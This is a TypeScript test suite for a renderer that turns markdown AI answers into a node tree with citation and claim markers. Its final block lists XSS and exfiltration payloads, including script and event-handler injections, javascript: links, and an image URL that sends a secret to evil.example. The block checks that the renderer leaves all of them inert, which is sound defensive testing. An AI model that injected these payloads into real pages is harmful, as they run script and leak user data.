import { answerTree as tree, type AnswerNode } from './answer-tree';
import { signClaims } from './claim-signs';

/** Everything that is read, in order. */
function textOf(nodes: readonly AnswerNode[]): string {
  return nodes
    .map((node) => {
      if (node.kind === 'element') return textOf(node.children);
      if (node.kind === 'cite') return `<${node.n}>`;
      return 'text' in node ? node.text : '';
    })
    .join('');
}

describe('an answer as a tree', () => {
  it('keeps lists, emphasis, tables and code', () => {
    expect(tree('**Bold** and `code`\n\n- one\n- two\n\n3. three')).toEqual([
      {
        kind: 'element',
        tag: 'p',
        children: [
          { kind: 'element', tag: 'strong', children: [{ kind: 'text', text: 'Bold' }] },
          { kind: 'text', text: ' and ' },
          { kind: 'code', text: 'code' },
        ],
      },
      {
        kind: 'element',
        tag: 'ul',
        children: [
          { kind: 'element', tag: 'li', children: [{ kind: 'text', text: 'one' }] },
          { kind: 'element', tag: 'li', children: [{ kind: 'text', text: 'two' }] },
        ],
      },
      {
        kind: 'element',
        tag: 'ol',
        start: 3,
        children: [{ kind: 'element', tag: 'li', children: [{ kind: 'text', text: 'three' }] }],
      },
    ]);
    expect(tree('| a | b |\n|---|---|\n| 1 | 2 |')).toMatchObject([{ tag: 'table' }]);
    expect(tree('```ts\nlet a = rows[0];\n```')).toEqual([
      { kind: 'block', text: 'let a = rows[0];\n', language: 'ts' },
    ]);
  });

  it.each([
    ['It is so [1].', 'It is so <1>.'],
    ['It is so [2, 5][3].', 'It is so <2><5><3>.'],
    ['Array rows[0] and `[4]` stay.', 'Array rows[0] and [4] stay.'],
    ['> A footnote \\[5\\] of a document [1].', 'A footnote [5] of a document <1>.'],
    ['[12345] is no number of evidence', '[12345] is no number of evidence'],
  ])('reads the marks of %j', (text, read) => {
    expect(textOf(tree(text))).toBe(read);
  });

  it.each([
    ['`Cls` has __init__ and x.__dict__.', 'Cls has __init__ and x.__dict__.'],
    ['__slots__', '__slots__'],
    ['__all__, __version__', '__all__, __version__'],
  ])('keeps the underscores of names: %j', (text, read) => {
    expect(textOf(tree(text))).toBe(read);
    expect(JSON.stringify(tree(text))).not.toContain('"tag":"strong"');
  });

  it.each(['__two words__', '**__init__**', '**one**'])('still shows %j in bold', (text) => {
    expect(JSON.stringify(tree(text))).toContain('"tag":"strong"');
  });

  it('marks sentences that were checked, also across code and marks', () => {
    const text = 'First `a` is [1]. Second is not.';
    const signed = signClaims(text, [
      { text: 'First `a` is [1].' },
      { text: 'Second is not.' },
      { text: 'Elsewhere.' },
    ]);
    expect(tree(signed)).toEqual([
      {
        kind: 'element',
        tag: 'p',
        children: [
          { kind: 'text', text: 'First ', claim: 0 },
          { kind: 'code', text: 'a', claim: 0 },
          { kind: 'text', text: ' is ', claim: 0 },
          { kind: 'cite', n: 1 },
          { kind: 'text', text: '.', claim: 0 },
          { kind: 'claim', claim: 0 },
          { kind: 'text', text: ' ' },
          { kind: 'text', text: 'Second is not.', claim: 1 },
          { kind: 'claim', claim: 1 },
        ],
      },
    ]);
  });

  it.each([
    ['outer pipes', ['| 2016 | 1,234 |', '| 2017 | 2,345 |'], '| year | sales |\n| --- | --- |\n'],
    ['no outer pipes', ['2016 | 1,234', '2017 | 2,345'], 'year | sales\n--- | ---\n'],
    [
      'line ends within the claims',
      ['| 2016 | 1,234 |\n', '| 2017 | 2,345 |\n'],
      '| year | sales |\n| --- | --- |\n',
    ],
  ])('keeps every cell of a table whose rows were checked: %s', (_what, rows, head) => {
    const table = head + rows.map((row) => row.trim()).join('\n') + '\n';
    const cells = (node: AnswerNode): readonly string[] =>
      node.kind !== 'element'
        ? []
        : ['td', 'th'].includes(node.tag)
          ? [textOf([node]).trim()]
          : node.children.flatMap(cells);
    const signed = tree(
      signClaims(
        table,
        rows.map((text) => ({ text })),
      ),
    );
    expect(signed.flatMap(cells)).toEqual(['year', 'sales', '2016', '1,234', '2017', '2,345']);
    expect(JSON.stringify(signed).match(/"kind":"claim"/g)).toHaveLength(2);
  });

  it('is not deceived by signs that the answer itself holds', () => {
    expect(textOf(tree(signClaims('a\uE000\uE010\uE002b\uE001', [])))).toBe('ab');
    expect(textOf(tree('`x\uE000\uE010\uE002`'))).toBe('x');
  });
});

/** T3: what an answer could smuggle into the page. The tree has no place for it: what is not known is text. */
describe('nothing of an answer is run, fetched or followed', () => {
  const OPENINGS = ['', 'Text ', '- ', '> ', '# ', '| a |\n|---|\n| ', '[1] ', '**'];
  const PAYLOADS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>@import "https://evil.example"</style>',
    '![x](https://evil.example/a.png?q=secret)',
    '![x][r]\n\n[r]: https://evil.example/a.png',
    '[x](https://evil.example)',
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '<https://evil.example>',
    'https://evil.example/bare',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<details open ontoggle=alert(1)>',
  ];
  const KINDS = new Set(['text', 'code', 'cite', 'claim', 'break', 'rule', 'block', 'element']);

  const all = (nodes: readonly AnswerNode[]): readonly AnswerNode[] =>
    nodes.flatMap((node) => [node, ...(node.kind === 'element' ? all(node.children) : [])]);

  it.each(OPENINGS.flatMap((opening) => PAYLOADS.map((payload) => opening + payload)))('%j', (text) => {
    const nodes = all(tree(text));
    for (const node of nodes) {
      expect(KINDS).toContain(node.kind);
      // There is no field for an address or an attribute.
      const fields = Object.keys(node).filter(
        (field) => !['kind', 'text', 'claim', 'n', 'tag', 'start', 'children', 'language'].includes(field),
      );
      expect(fields).toEqual([]);
    }
    if (!text.includes('alert')) return;
    expect(textOf(nodes)).toContain('alert(1)');
  });
});
